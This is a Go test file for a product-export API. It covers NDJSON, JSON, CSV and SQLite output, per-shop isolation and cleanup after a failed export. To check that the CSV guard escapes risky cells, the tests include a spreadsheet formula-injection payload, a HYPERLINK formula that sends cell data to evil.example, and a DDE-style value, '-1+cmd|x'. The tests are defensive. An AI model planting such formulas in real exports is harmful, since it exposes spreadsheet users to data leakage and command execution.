package web

import (
	"bufio"
	"database/sql"
	"encoding/csv"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	_ "modernc.org/sqlite"
)

const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`

func TestEveryProductIsExportedWithItsVariants(t *testing.T) {
	r := newRig(t, nil)
	for id := int64(1); id <= exportPage+5; id++ {
		r.product(id, "Shirt", "")
	}
	n := 0
	in := bufio.NewScanner(strings.NewReader(r.admin(200, "GET", "/api/v1/products-export", "")))
	in.Buffer(nil, 1<<20)
	for in.Scan() {
		if p := decode[productSeen](t, in.Text()); len(p.Variants) != 2 {
			t.Fatalf("product %d has %d variants", p.ExternalID, len(p.Variants))
		}
		n++
	}
	if n != exportPage+5 {
		t.Errorf("ndjson holds %d products", n)
	}
	if list := decode[[]productSeen](t, r.admin(200, "GET", "/api/v1/products-export?format=json", "")); len(list) != exportPage+5 {
		t.Errorf("json holds %d products", len(list))
	}
	if got := r.admin(200, "GET", "/api/v1/products-export?format=json&shop=other.myshopify.com", ""); got != "[]\n" {
		t.Errorf("another shop's: %q", got)
	}
	w := serve(r.Admin(), request("GET", "/api/v1/products-export", ""))
	if w.Header().Get("Stockroom-Seq") != "205" || !strings.Contains(w.Header().Get("Content-Disposition"), "products.ndjson") {
		t.Errorf("headers %v", w.Header())
	}
	r.admin(400, "GET", "/api/v1/products-export?format=xlsx", "")
	r.admin(400, "GET", "/api/v1/products-export?format=csv&raw=perhaps", "")
}

func TestTheCSVHasShopifysColumnsAndALineForEachVariant(t *testing.T) {
	r := newRig(t, nil)
	r.product(1, formula, `,"images":[{"id":5,"position":1,"src":"https://cdn.example/a.jpg","alt":"-front"},{"id":6,"position":2,"src":"https://cdn.example/b.jpg","alt":null},{"id":7,"position":3,"src":"https://cdn.example/c.jpg","alt":null}]`)
	read := func(path string) []map[string]string {
		records, err := csv.NewReader(strings.NewReader(r.admin(200, "GET", path, ""))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var lines []map[string]string
		for _, record := range records[1:] {
			line := map[string]string{}
			for i, name := range records[0] {
				line[name] = record[i]
			}
			lines = append(lines, line)
		}
		return lines
	}
	lines := read("/api/v1/products-export?format=csv")
	if len(lines) != 3 {
		t.Fatalf("%d lines, want 3: two variants, three images", len(lines))
	}
	for i, want := range []map[string]string{
		{"Handle": "product-1", "Title": "'" + formula, "Vendor": "Acme", "Tags": "linen, summer", "Published": "true", "Option1 Name": "Size", "Option1 Value": "S",
			"Variant SKU": "SKU-1-S", "Variant Price": "19.90", "Variant Inventory Qty": "-5", "Image Position": "1", "Image Alt Text": "'-front", "Status": "active"},
		{"Handle": "product-1", "Title": "", "Option1 Value": "M", "Variant Price": "1299.000", "Image Src": "https://cdn.example/b.jpg"},
		{"Handle": "product-1", "Variant SKU": "", "Image Src": "https://cdn.example/c.jpg"},
	} {
		for name, value := range want {
			if lines[i][name] != value {
				t.Errorf("line %d: %s is %q, want %q", i+1, name, lines[i][name], value)
			}
		}
	}
	if got := read("/api/v1/products-export?format=csv&raw=true")[0]["Title"]; got != formula {
		t.Errorf("raw title %q", got)
	}
	if got := r.admin(200, "GET", "/api/v1/products-export?format=csv&shop=other.myshopify.com", ""); got != strings.Join(csvColumns, ",")+"\n" {
		t.Errorf("an empty csv: %q", got)
	}
}

func TestCellsThatASpreadsheetWouldEvaluateAreGuarded(t *testing.T) {
	for cell, want := range map[string]string{
		"":          "",
		"Shirt":     "Shirt",
		"=1+1":      "'=1+1",
		"+1":        "'+1",
		"-1":        "-1",
		"-1.50":     "-1.50",
		"-1+cmd|x":  "'-1+cmd|x",
		"-":         "'-",
		"1.":        "1.",
		"-.5":       "'-.5",
		"@SUM(A1)":  "'@SUM(A1)",
		"\t=1":      "'\t=1",
		"\r=1":      "'\r=1",
		"\n=1":      "'\n=1",
		"  =1":      "'  =1",
		"\u00a0=1":  "'\u00a0=1",
		"＝1":        "'＝1",
		"－1":        "'－1",
		"a=b":       "a=b",
		"'=1":       "'=1",
		"0123":      "0123",
		"\ufeff=1":  "'\ufeff=1",
		"Größe @ S": "Größe @ S",
	} {
		if got := guardedCell(cell); got != want {
			t.Errorf("%q becomes %q, want %q", cell, got, want)
		}
	}
}

func TestTheSQLiteExportIsAWholeDatabaseAndLeavesNothingBehind(t *testing.T) {
	r := newRig(t, nil)
	r.product(1, "Shirt", "")
	left := filepath.Join(r.opt.DataDir, exportPrefix+"123")
	if err := os.Mkdir(left, 0o700); err != nil {
		t.Fatal(err)
	}
	body := r.admin(200, "GET", "/api/v1/products-export?format=sqlite", "")
	path := filepath.Join(t.TempDir(), "copy.db")
	if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	db, err := sql.Open("sqlite", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var sound string
	var products, secrets int
	if err := db.QueryRow(`SELECT (SELECT integrity_check FROM pragma_integrity_check), (SELECT count(*) FROM products), (SELECT count(*) FROM shops)`).Scan(&sound, &products, &secrets); err != nil || sound != "ok" || products != 1 {
		t.Errorf("%s, %d products, %v", sound, products, err)
	}
	if names, err := filepath.Glob(filepath.Join(r.opt.DataDir, exportPrefix+"*")); err != nil || len(names) != 0 {
		t.Errorf("left behind: %v %v", names, err)
	}
	r.admin(400, "GET", "/api/v1/products-export?format=sqlite&shop="+testShop, "")
	r.export <- struct{}{}
	r.admin(503, "GET", "/api/v1/products-export?format=sqlite", "")
	<-r.export
}

func TestAnExportOfAFailingCatalogueIsAnErrorNotAnEmptyFile(t *testing.T) {
	r := newRig(t, nil)
	if err := r.store.Close(); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"ndjson", "json", "csv"} {
		w := serve(r.Admin(), request(http.MethodGet, "/api/v1/products-export?format="+format, ""))
		if w.Code != http.StatusServiceUnavailable || w.Header().Get("Content-Disposition") != "" {
			t.Errorf("%s: %d %v", format, w.Code, w.Header())
		}
	}
}
